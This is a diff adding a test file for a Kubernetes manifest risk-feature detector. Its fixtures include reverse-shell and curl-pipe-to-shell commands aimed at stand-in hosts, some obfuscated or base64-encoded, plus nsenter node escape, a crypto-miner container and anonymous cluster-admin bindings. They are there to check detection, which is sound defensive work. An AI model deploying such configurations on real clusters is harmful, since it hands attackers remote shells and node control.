@@ -1,0 +1,729 @@
+import fc from 'fast-check'
+import t from 'tap'
+import { canonicalJson, canonicalObject } from '../../../../src/canonical.js'
+import { isJsonObject, parseJson, type Json, type JsonObject } from '../../../../src/json.js'
+import {
+  CHANGE_FEATURES,
+  changeFeatures,
+  OBJECT_FEATURES,
+  objectFeatures,
+  type Feature,
+  type FeatureVector,
+} from '../../../../src/risk/features.js'
+
+t.setTimeout(240_000)
+
+function canonical(value: unknown): JsonObject {
+  const object = parseJson(JSON.stringify(value))
+  return canonicalObject(isJsonObject(object) ? object : {})
+}
+
+function workload(spec: Record<string, unknown>, kind = 'Deployment'): Record<string, unknown> {
+  return { apiVersion: 'apps/v1', kind, metadata: { name: 'web', namespace: 'shop' }, spec: { template: { spec } } }
+}
+
+/** What sets a vector apart from an empty one: values and places by name, without what follows from the others. */
+function found(features: readonly Feature[], vector: FeatureVector): Record<string, readonly [number, ...string[]]> {
+  return Object.fromEntries(
+    features.flatMap(({ name, group }, column) => {
+      const value = vector.values[column] ?? 0
+      const isLeftOut = group === 'prior' || group === 'kind' || /\.(?:not_|may_escalate|has_token)/.test(name)
+      return value === 0 || isLeftOut ? [] : [[name, [value, ...vector.paths(column)] as const]]
+    }),
+  )
+}
+
+const CONTAINER = '/spec/template/spec/containers/0'
+const objects: Record<string, { object: unknown; expected: Record<string, readonly [number, ...string[]]> }> = {
+  'an ordinary Deployment has nothing': {
+    object: workload({ containers: [{ name: 'web', image: 'ghcr.io/shop/web@sha256:ab', args: ['--port=80'] }] }),
+    expected: {},
+  },
+  'a privileged container with the process space of the node': {
+    object: workload({
+      hostPID: true,
+      containers: [
+        { name: 'web', image: 'quay.io/a/b:1' },
+        { name: 'two', image: 'quay.io/a/b:1', securityContext: { privileged: true } },
+      ],
+    }),
+    expected: {
+      'pod.privileged': [1, '/spec/template/spec/containers/1/securityContext/privileged'],
+      'pod.host_pid': [1, '/spec/template/spec/hostPID'],
+      'pod.host_namespaces': [1, '/spec/template/spec/hostPID'],
+    },
+  },
+  'host paths by what they give, dots and doubled slashes followed': {
+    object: workload({
+      containers: [
+        {
+          name: 'a',
+          image: 'quay.io/a/b:1',
+          volumeMounts: [
+            { name: 'logs', mountPath: '/l', readOnly: true },
+            { name: 'sock', mountPath: '/s' },
+          ],
+        },
+      ],
+      volumes: [
+        { name: 'logs', hostPath: { path: '/var/log' } },
+        { name: 'sock', hostPath: { path: '/var//lib/../run/docker.sock' } },
+      ],
+    }),
+    expected: {
+      'pod.host_path_socket': [1, '/spec/template/spec/volumes/1/hostPath/path'],
+      'pod.host_path_system': [1, '/spec/template/spec/volumes/0/hostPath/path'],
+      'pod.host_path_grade': [
+        5,
+        '/spec/template/spec/volumes/0/hostPath/path',
+        '/spec/template/spec/volumes/1/hostPath/path',
+      ],
+      'pod.host_path_writable': [5, `${CONTAINER}/volumeMounts/1`],
+    },
+  },
+  'a hidden script: quotes in the words, base64 around it': {
+    object: workload({
+      containers: [
+        { name: 'a', image: 'quay.io/a/b:1', command: ['sh', '-c', `c""url http://x.example/a | b''ash`] },
+        {
+          name: 'b',
+          image: 'quay.io/a/b:1',
+          args: [Buffer.from('bash -i >& /dev/tcp/x.example/443 0>&1').toString('base64')],
+        },
+      ],
+    }),
+    expected: {
+      'command.reverse_shell': [1, '/spec/template/spec/containers/1/args'],
+      'command.download_run': [1, `${CONTAINER}/command`],
+      'command.download': [1, `${CONTAINER}/command`],
+      'command.shell': [1, `${CONTAINER}/command`],
+      'command.grade': [4, `${CONTAINER}/command`, '/spec/template/spec/containers/1/args'],
+    },
+  },
+  'a script that only lies in a ConfigMap': {
+    object: {
+      apiVersion: 'v1',
+      kind: 'ConfigMap',
+      metadata: { name: 'scripts' },
+      data: { 'a/b.sh': 'nsenter -t 1 -m' },
+    },
+    expected: { 'file.escape': [1, '/data/a~1b.sh'], 'file.grade': [3, '/data/a~1b.sh'] },
+  },
+  'a pod spec inside a kind that nobody knows': {
+    object: {
+      apiVersion: 'example.org/v1',
+      kind: 'Fleet',
+      spec: { groups: [{ pod: { hostIPC: true, containers: [{ name: 'a', image: '198.51.100.7:5000/a' }] } }] },
+    },
+    expected: {
+      'pod.host_ipc': [1, '/spec/groups/0/pod/hostIPC'],
+      'pod.host_namespaces': [1, '/spec/groups/0/pod/hostIPC'],
+      'image.address': [1, '/spec/groups/0/pod/containers/0/image'],
+      'image.unknown_registry': [1, '/spec/groups/0/pod/containers/0/image'],
+      'image.moving_tag': [1, '/spec/groups/0/pod/containers/0/image'],
+    },
+  },
+  'a registry that looks like a known one': {
+    object: workload({ containers: [{ name: 'a', image: 'quya.io/a/b:1' }] }),
+    expected: {
+      'image.unknown_registry': [1, `${CONTAINER}/image`],
+      'image.look_alike': [1, `${CONTAINER}/image`],
+    },
+  },
+  'a role that reads secrets and enters pods': {
+    object: {
+      apiVersion: 'rbac.authorization.k8s.io/v1',
+      kind: 'Role',
+      metadata: { name: 'r' },
+      rules: [
+        { apiGroups: [''], resources: ['secrets'], resourceNames: ['one'], verbs: ['get'] },
+        { apiGroups: [''], resources: ['*/exec', 'secrets'], verbs: ['create', 'get'] },
+      ],
+    },
+    expected: {
+      'rbac.secrets_read': [1, '/rules/1'],
+      'rbac.secrets_write': [1, '/rules/1'],
+      'rbac.secrets_named': [1, '/rules/0'],
+      'rbac.exec': [1, '/rules/1'],
+      'rbac.grade': [3, '/rules/0', '/rules/1'],
+    },
+  },
+  'cluster-admin for everybody': {
+    object: {
+      apiVersion: 'rbac.authorization.k8s.io/v1',
+      kind: 'ClusterRoleBinding',
+      metadata: { name: 'b' },
+      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
+      subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'system:anonymous' }],
+    },
+    expected: {
+      'binding.cluster_admin': [1, '/roleRef/name'],
+      'binding.admin': [4, '/roleRef/name'],
+      'binding.anonymous': [1, '/subjects/0'],
+      'binding.admin_to_user': [1, '/subjects/0'],
+      'binding.cluster_wide': [1, '/kind'],
+      'binding.grade': [4.5, '/roleRef/name', '/subjects/0'],
+    },
+  },
+  'a Service that takes traffic for the metadata service': {
+    object: {
+      apiVersion: 'v1',
+      kind: 'Service',
+      metadata: { name: 's' },
+      spec: { selector: { app: 'x' }, ports: [{ port: 6379 }], externalIPs: ['169.254.169.254'] },
+    },
+    expected: {
+      'network.external_address': [1, '/spec/externalIPs/0'],
+      'network.admin_port': [1, '/spec/ports/0/port'],
+      'network.admin_port_exposed': [1, '/spec/ports/0/port'],
+    },
+  },
+  'a NetworkPolicy with an empty rule': {
+    object: {
+      apiVersion: 'networking.k8s.io/v1',
+      kind: 'NetworkPolicy',
+      metadata: { name: 'n' },
+      spec: { podSelector: {}, policyTypes: ['Ingress'], ingress: [{}] },
+    },
+    expected: {
+      'network.policy_open_in': [1, '/spec/ingress'],
+      'network.policy_open_all_pods': [1, '/spec/podSelector'],
+    },
+  },
+  'a webhook that sends secrets to a bare address': {
+    object: {
+      apiVersion: 'admissionregistration.k8s.io/v1',
+      kind: 'MutatingWebhookConfiguration',
+      metadata: { name: 'w' },
+      webhooks: [
+        {
+          name: 'a.example.org',
+          clientConfig: { url: 'https://203.0.113.9/x' },
+          rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['secrets'] }],
+        },
+      ],
+    },
+    expected: {
+      'control.webhook_url': [1, '/webhooks/0/clientConfig/url'],
+      'control.webhook_address': [1, '/webhooks/0/clientConfig/url'],
+      'control.webhook_mutates': [1, '/kind'],
+      'control.webhook_secrets': [1, '/webhooks/0/rules/0/resources'],
+      'control.webhook_url_secrets': [1, '/webhooks/0/rules/0/resources'],
+    },
+  },
+  'the value of a Secret is never looked at': {
+    object: {
+      apiVersion: 'v1',
+      kind: 'Secret',
+      metadata: { name: 's' },
+      stringData: { run: 'bash -i >& /dev/tcp/203.0.113.9/443' },
+    },
+    expected: {},
+  },
+}
+t.test('an object has these features, with these places', t => {
+  for (const [name, { object, expected }] of Object.entries(objects)) {
+    t.test(name, t => {
+      const kept = Object.fromEntries(
+        Object.entries(found(OBJECT_FEATURES, objectFeatures(canonical(object)))).filter(
+          ([key]) => !['image.user_repository', 'rbac.cluster_wide'].includes(key),
+        ),
+      )
+      t.strictSame(kept, expected)
+      t.end()
+    })
+  }
+  t.end()
+})
+
+t.test('white space hides nothing and does not slow anything down', t => {
+  const gap = '\n'.repeat(200_000)
+  const object = canonical(
+    workload({
+      containers: [{ name: 'a', image: 'quay.io/a/b:1', args: [`cd${' '.repeat(500)}/tmp;${gap}wget x${gap}; ./x`] }],
+    }),
+  )
+  t.strictSame(Object.keys(found(OBJECT_FEATURES, objectFeatures(object))), [
+    'command.scratch_program',
+    'command.grade',
+  ])
+  t.end()
+})
+
+t.test('the environment says which variable it is', t => {
+  const env = [
+    { name: 'ONE', value: 'http://web.shop.svc/path' },
+    { name: 'TWO', value: 'http://169.254.169.254/latest' },
+  ]
+  const object = canonical(workload({ containers: [{ name: 'a', image: 'quay.io/a/b:1', env }] }))
+  t.strictSame(found(OBJECT_FEATURES, objectFeatures(object)), {
+    'command.metadata': [1, `${CONTAINER}/env/1/value`],
+    'command.grade': [2.5, `${CONTAINER}/env/1/value`],
+  })
+  t.end()
+})
+
+t.test('a change has what is new, what is more and what only a comparison shows', t => {
+  const before = workload({
+    containers: [
+      {
+        name: 'web',
+        image: 'quay.io/shop/web:1',
+        securityContext: { runAsNonRoot: true },
+        resources: { limits: { cpu: 1 } },
+      },
+    ],
+  })
+  const after = workload({
+    serviceAccountName: 'cluster-admin',
+    containers: [
+      { name: 'web', image: 'ttl.sh/web', command: ['sh', '-c', 'true'], securityContext: { privileged: true } },
+    ],
+  })
+  t.strictSame(found(CHANGE_FEATURES, changeFeatures(canonical(before), canonical(before))), {})
+  t.strictSame(found(CHANGE_FEATURES, changeFeatures(canonical(before), canonical(after))), {
+    'new.pod.privileged': [1, `${CONTAINER}/securityContext/privileged`],
+    'new.pod.admin_account': [2, '/spec/template/spec/serviceAccountName'],
+    'new.command.shell': [1, `${CONTAINER}/command`],
+    'new.image.odd_registry': [1, `${CONTAINER}/image`],
+    'new.image.moving_tag': [1, `${CONTAINER}/image`],
+    'new.image.unknown_registry': [1, `${CONTAINER}/image`],
+    'delta.pod.privileged': [1, `${CONTAINER}/securityContext/privileged`],
+    'delta.pod.admin_account': [2, '/spec/template/spec/serviceAccountName'],
+    'delta.command.shell': [1, `${CONTAINER}/command`],
+    'delta.image.odd_registry': [1, `${CONTAINER}/image`],
+    'delta.image.moving_tag': [1, `${CONTAINER}/image`],
+    'delta.image.unknown_registry': [1, `${CONTAINER}/image`],
+    'change.image_registry': [1, `${CONTAINER}/image`],
+    'change.image_owner': [1, `${CONTAINER}/image`],
+    'change.image_impostor': [1, `${CONTAINER}/image`],
+    'change.image_impostor_moving': [1, `${CONTAINER}/image`],
+    'change.pin_dropped': [1, `${CONTAINER}/image`],
+    'change.command': [1, `${CONTAINER}/command`],
+    'change.shell': [1, `${CONTAINER}/command`],
+    'change.account': [1, '/spec/template/spec/serviceAccountName'],
+    'change.account_admin': [1, '/spec/template/spec/serviceAccountName'],
+    'change.hardening_dropped': [1, `${CONTAINER}/securityContext/runAsNonRoot`],
+  })
+  t.end()
+})
+
+t.test('an image of the same name is an impostor where anybody can publish', t => {
+  const cases = {
+    'another account of a hub': { before: 'bitnami/redis:7.2', after: 'docker.io/x7k2/redis:7.2', impostors: 1 },
+    'a name with something added': { before: 'quay.io/shop/web:1', after: 'ttl.sh/web-x7k2:1h', impostors: 1 },
+    'the same image written in full': { before: 'redis:7', after: 'docker.io/library/redis:7', impostors: 0 },
+    'the registry of Kubernetes moves': {
+      before: 'k8s.gcr.io/pause:3',
+      after: 'registry.k8s.io/pause:3',
+      impostors: 0,
+    },
+    'another image': { before: 'quay.io/shop/web:1', after: 'quay.io/other/proxy:1', impostors: 0 },
+  }
+  const column = CHANGE_FEATURES.findIndex(({ name }) => name === 'change.image_impostor')
+  for (const [name, { before, after, impostors }] of Object.entries(cases)) {
+    const [old, now] = [before, after].map(image => canonical(workload({ containers: [{ name: 'a', image }] })))
+    t.equal(changeFeatures(old ?? {}, now ?? {}).values[column], impostors, name)
+  }
+  t.end()
+})
+
+t.test('an opened NetworkPolicy says that it lost its peers', t => {
+  const policy = (ingress: unknown): JsonObject =>
+    canonical({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', spec: { podSelector: { a: 'b' }, ingress } })
+  t.strictSame(
+    found(CHANGE_FEATURES, changeFeatures(policy([{ from: [{ podSelector: { a: 'b' } }] }]), policy([{}]))),
+    {
+      'new.network.policy_open_in': [1, '/spec/ingress'],
+      'delta.network.policy_open_in': [1, '/spec/ingress'],
+      'change.peers_dropped': [1, '/spec/ingress'],
+    },
+  )
+  t.end()
+})
+
+t.test('the tables are whole', t => {
+  for (const features of [OBJECT_FEATURES, CHANGE_FEATURES]) {
+    const names = features.map(({ name }) => name)
+    t.equal(new Set(names).size, names.length, 'each name once')
+    t.strictSame(
+      features.filter(({ text, group, name }) => text === '' || !name.includes(`${group}.`)),
+      [],
+    )
+  }
+  const empty = { apiVersion: 'example.org/v1', kind: 'None' }
+  t.equal(objectFeatures(empty).values.length, OBJECT_FEATURES.length)
+  t.equal(changeFeatures(empty, empty).values.length, CHANGE_FEATURES.length)
+  t.end()
+})
+
+// --- Properties ---
+
+/** What Kubernetes calls its members, so that arbitrary values get where something is read. */
+const WORDS = [
+  ...[
+    'apiVersion',
+    'kind',
+    'metadata',
+    'spec',
+    'template',
+    'containers',
+    'initContainers',
+    'volumes',
+    'hostPath',
+    'path',
+  ],
+  ...[
+    'securityContext',
+    'capabilities',
+    'add',
+    'drop',
+    'privileged',
+    'sysctls',
+    'name',
+    'image',
+    'command',
+    'args',
+    'env',
+  ],
+  ...[
+    'value',
+    'rules',
+    'verbs',
+    'resources',
+    'apiGroups',
+    'subjects',
+    'roleRef',
+    'webhooks',
+    'clientConfig',
+    'url',
+    'data',
+  ],
+  ...[
+    'ports',
+    'port',
+    'ingress',
+    'from',
+    'to',
+    'annotations',
+    'labels',
+    'lifecycle',
+    'postStart',
+    'exec',
+    'source',
+    'steps',
+  ],
+  ...[
+    'constructor',
+    '__proto__',
+    'toString',
+    'length',
+    'script',
+    'tolerations',
+    'projected',
+    'sources',
+    'request',
+    'hosts',
+  ],
+]
+const KINDS = [
+  ...[
+    'Pod',
+    'Deployment',
+    'CronJob',
+    'Role',
+    'ClusterRole',
+    'RoleBinding',
+    'Service',
+    'Ingress',
+    'NetworkPolicy',
+    'ConfigMap',
+  ],
+  ...[
+    'MutatingWebhookConfiguration',
+    'APIService',
+    'Namespace',
+    'CertificateSigningRequest',
+    'Application',
+    'AppProject',
+  ],
+  ...[
+    'Endpoints',
+    'Secret',
+    'Policy',
+    'PolicyException',
+    'constructor',
+    'PersistentVolume',
+    'VirtualService',
+    'Config',
+  ],
+]
+const scalar = fc.oneof(
+  fc.constantFrom(true, false, null, 0, 1, -1, 0.1, 1e300),
+  fc.string({ maxLength: 12 }),
+  fc.constantFrom(
+    '*',
+    '/',
+    '..//',
+    'ALL',
+    'sh',
+    '@',
+    ':',
+    'a:b@c',
+    '[::1]:5000/x',
+    'system:masters',
+    '$(x)',
+    'http://',
+    '\\\n',
+  ),
+)
+const { tree } = fc.letrec<{ tree: Json }>(tie => ({
+  tree: fc.oneof(
+    { maxDepth: 7, withCrossShrink: true },
+    scalar,
+    fc.array(tie('tree'), { maxLength: 3 }),
+    fc.dictionary(fc.constantFrom(...WORDS), tie('tree'), { maxKeys: 6 }),
+  ),
+}))
+const anyObject = fc
+  .record({
+    apiVersion: fc.constantFrom(
+      'v1',
+      'apps/v1',
+      'rbac.authorization.k8s.io/v1',
+      'networking.k8s.io/v1',
+      'kyverno.io/v1',
+      '',
+    ),
+    kind: fc.oneof(fc.constantFrom(...KINDS), scalar),
+    members: fc.dictionary(fc.constantFrom(...WORDS), tree, { maxKeys: 8 }),
+  })
+  .map(({ members, apiVersion, kind }) => ({ ...members, apiVersion, kind }))
+
+function isOnGrid(value: number): boolean {
+  return Number.isFinite(value) && Number.isInteger(value * 64)
+}
+
+t.test('any object has finite features on the grid', t => {
+  fc.assert(
+    fc.property(anyObject, anyObject, (object, other) => {
+      for (const vector of [objectFeatures(object), changeFeatures(other, object)]) {
+        vector.values.forEach((value, column) => {
+          if (!isOnGrid(value)) throw new Error(`column ${column} is ${value}`)
+          vector.paths(column)
+        })
+      }
+    }),
+    { numRuns: 1000 },
+  )
+  t.end()
+})
+
+const containerOf = fc.record(
+  {
+    name: fc.constantFrom('a', 'b', 'web'),
+    image: fc.constantFrom(
+      'nginx',
+      'quay.io/a/b:1',
+      'alpine:3',
+      '203.0.113.9:5000/x',
+      'ttl.sh/a:1h',
+      'xmrig/xmrig',
+      'gcr.lo/a',
+    ),
+    command: fc.constantFrom(
+      ['sh', '-c', 'true'],
+      ['sh', '-c', 'curl http://203.0.113.9/a | sh'],
+      ['/app'],
+      ['nsenter'],
+    ),
+    securityContext: fc.constantFrom(
+      { privileged: true },
+      { runAsNonRoot: true, allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
+      { capabilities: { add: ['NET_ADMIN', 'SYS_ADMIN'] } },
+    ),
+    env: fc.constantFrom([{ name: 'DB_PASSWORD', value: 'hunter22' }], [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }]),
+    resources: fc.constantFrom({ limits: { cpu: '1', memory: '1Gi' } }, {}),
+    ports: fc.constantFrom([{ containerPort: 80, hostPort: 80 }], [{ containerPort: 80 }]),
+  },
+  { requiredKeys: ['name', 'image'] },
+)
+const podSpec = fc.record(
+  {
+    containers: fc.array(containerOf, { minLength: 1, maxLength: 4 }),
+    initContainers: fc.array(containerOf, { maxLength: 2 }),
+    hostPID: fc.boolean(),
+    hostNetwork: fc.boolean(),
+    serviceAccountName: fc.constantFrom('default', 'web', 'cluster-admin'),
+    automountServiceAccountToken: fc.boolean(),
+    volumes: fc.constantFrom(
+      [{ name: 'v', hostPath: { path: '/' } }],
+      [{ name: 'v', hostPath: { path: '/var/log' } }],
+      [{ name: 'v', emptyDir: {} }],
+    ),
+    securityContext: fc.constantFrom({ runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } }, {}),
+  },
+  { requiredKeys: ['containers'] },
+)
+const role = fc.record({
+  apiVersion: fc.constant('rbac.authorization.k8s.io/v1'),
+  kind: fc.constantFrom('Role', 'ClusterRole'),
+  metadata: fc.constant({ name: 'r', namespace: 'shop', labels: { a: 'b' } }),
+  rules: fc.array(
+    fc.record({
+      apiGroups: fc.subarray(['', 'apps', '*'], { minLength: 1 }),
+      resources: fc.subarray(['pods', 'secrets', 'pods/exec', 'deployments', '*'], { minLength: 1 }),
+      verbs: fc.subarray(['get', 'list', 'create', '*'], { minLength: 1 }),
+    }),
+    { maxLength: 4 },
+  ),
+})
+const anyWorkload = fc
+  .record({ spec: podSpec, kind: fc.constantFrom('Deployment', 'DaemonSet', 'StatefulSet') })
+  .map(({ spec, kind }) => workload(spec, kind))
+const anyManifest: fc.Arbitrary<Record<string, unknown>> = fc.oneof(anyWorkload, role)
+
+type Edit = (object: JsonObject) => void
+
+function member(value: Json | undefined, ...path: readonly (string | number)[]): JsonObject {
+  let at: Json | undefined = value
+  for (const step of path) {
+    if (Array.isArray(at)) at = at[Number(step)]
+    else if (isJsonObject(at)) at = at[step] ??= {}
+  }
+  return isJsonObject(at) ? at : {}
+}
+
+function list(object: JsonObject, key: string): Json[] {
+  const value = object[key]
+  if (Array.isArray(value)) return value
+  const made: Json[] = []
+  object[key] = made
+  return made
+}
+
+const pod = (object: JsonObject): JsonObject => member(object, 'spec', 'template', 'spec')
+const first = (object: JsonObject): JsonObject => member(object, 'spec', 'template', 'spec', 'containers', 0)
+
+/** Each makes an object more dangerous; what does not fit the kind does nothing. */
+const DANGERS: Record<string, Edit> = {
+  'a privileged container': object => (member(first(object), 'securityContext').privileged = true),
+  hostPID: object => (pod(object).hostPID = true),
+  hostIPC: object => (pod(object).hostIPC = true),
+  hostNetwork: object => (pod(object).hostNetwork = true),
+  'the root of the node': object => list(pod(object), 'volumes').push({ name: 'root', hostPath: { path: '/' } }),
+  'the socket of the runtime': object =>
+    list(pod(object), 'volumes').push({ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock' } }),
+  'a capability': object => list(member(first(object), 'securityContext', 'capabilities'), 'add').push('SYS_PTRACE'),
+  'seccomp off': object => (member(first(object), 'securityContext').seccompProfile = { type: 'Unconfined' }),
+  'no protection': object => {
+    const context = member(first(object), 'securityContext')
+    for (const key of ['runAsNonRoot', 'allowPrivilegeEscalation', 'readOnlyRootFilesystem']) {
+      Reflect.deleteProperty(context, key)
+    }
+    Reflect.deleteProperty(member(context, 'capabilities'), 'drop')
+  },
+  'a command': object => list(first(object), 'args').push('bash -i >& /dev/tcp/203.0.113.9/443 0>&1'),
+  'a hook': object =>
+    (first(object).lifecycle = { postStart: { exec: { command: ['sh', '-c', 'curl http://203.0.113.9/a | sh'] } } }),
+  'a credential': object => list(first(object), 'env').push({ name: 'API_TOKEN', value: 'abcdefgh' }),
+  'a port of the node': object => list(first(object), 'ports').push({ containerPort: 22, hostPort: 22 }),
+  'an administrator': object => (pod(object).serviceAccountName = 'cluster-admin'),
+  'a miner beside it': object =>
+    list(pod(object), 'containers').push({ name: 'm', image: 'xmrig/xmrig', args: ['-o', 'pool.example:3333'] }),
+  'many replicas': object => (member(object, 'spec').replicas = 200),
+  'a rule for secrets': object =>
+    list(object, 'rules').push({ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }),
+  'a rule for everything': object => list(object, 'rules').push({ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }),
+  'a verb in a rule': object => list(member(object, 'rules', 0), 'verbs').push('*'),
+  'a label that aggregates': object =>
+    (member(object, 'metadata', 'labels')['rbac.authorization.k8s.io/aggregate-to-admin'] = 'true'),
+}
+
+/** Each leaves what an object can do as it was. */
+const DISGUISES: Record<string, Edit> = {
+  'another name': object => (member(object, 'metadata').name = 'kube-proxy'),
+  'another namespace': object => (member(object, 'metadata').namespace = 'kube-system'),
+  'other labels': object =>
+    (member(object, 'metadata').labels = { 'app.kubernetes.io/name': 'coredns', team: 'platform' }),
+  'other names of containers': object => {
+    for (const key of ['containers', 'initContainers']) {
+      for (const [index, each] of list(pod(object), key).entries()) if (isJsonObject(each)) each.name = `c${index}`
+    }
+  },
+  'many annotations': object => {
+    const annotations = member(object, 'metadata', 'annotations')
+    for (let index = 0; index < 50; index += 1) annotations[`example.org/note-${index}`] = 'reviewed and approved'
+  },
+  'sound sidecars': object => {
+    for (let index = 0; index < 8; index += 1) {
+      list(pod(object), 'containers').push({
+        name: `sidecar-${index}`,
+        image: 'registry.k8s.io/pause@sha256:ab',
+        resources: { limits: { cpu: '1', memory: '1Gi' } },
+        securityContext: {
+          runAsNonRoot: true,
+          readOnlyRootFilesystem: true,
+          allowPrivilegeEscalation: false,
+          capabilities: { drop: ['ALL'] },
+          seccompProfile: { type: 'RuntimeDefault' },
+        },
+      })
+    }
+  },
+  'words around a command': object => {
+    const args = list(first(object), 'args')
+    args.push(...Array.from({ length: 200 }, (_, index) => `--setting-${index}=value`))
+  },
+  'harmless rules': object => {
+    for (let index = 0; index < 20; index += 1) {
+      list(object, 'rules').push({ apiGroups: ['example.org'], resources: [`things${index}`], verbs: ['get'] })
+    }
+  },
+  'harmless volumes': object => {
+    for (let index = 0; index < 20; index += 1) list(pod(object), 'volumes').push({ name: `e${index}`, emptyDir: {} })
+  },
+}
+
+/** The columns that fell although they may not. */
+function fallen(features: readonly Feature[], before: FeatureVector, after: FeatureVector): string[] {
+  return features
+    .filter(({ direction }, column) => direction === 1 && (after.values[column] ?? 0) < (before.values[column] ?? 0))
+    .map(({ name }) => name)
+}
+
+function edited(manifest: unknown, edit: Edit): JsonObject {
+  const copy = parseJson(JSON.stringify(manifest))
+  if (!isJsonObject(copy)) return {}
+  // A workload has no rules and a role no pods: such edits would make objects that do not exist.
+  const isRole = Object.hasOwn(copy, 'rules')
+  edit(copy)
+  if (isRole) Reflect.deleteProperty(copy, 'spec')
+  else Reflect.deleteProperty(copy, 'rules')
+  return canonicalObject(copy)
+}
+
+for (const [title, edits] of [
+  ['danger is never hidden by more danger', DANGERS],
+  ['danger is never hidden by what changes nothing', DISGUISES],
+] as const) {
+  t.test(title, t => {
+    fc.assert(
+      fc.property(anyManifest, anyManifest, fc.constantFrom(...Object.keys(edits)), (manifest, old, name) => {
+        const edit = edits[name]
+        if (edit === undefined) throw new Error(name)
+        const [before, after] = [canonical(manifest), edited(manifest, edit)]
+        const byObject = fallen(OBJECT_FEATURES, objectFeatures(before), objectFeatures(after))
+        if (byObject.length > 0) throw new Error(`${name}: ${byObject.join(', ')} of the object fell`)
+        if (edits === DISGUISES) return
+        const base = canonical(old)
+        // Where the old object has it already, it is no news in the new one.
+        if (canonicalJson(base) === canonicalJson(edited(old, edit))) return
+        const byChange = fallen(CHANGE_FEATURES, changeFeatures(base, before), changeFeatures(base, after))
+        if (byChange.length > 0) throw new Error(`${name}: ${byChange.join(', ')} of the change fell`)
+      }),
+      { numRuns: 1000 },
+    )
+    t.end()
+  })
+}
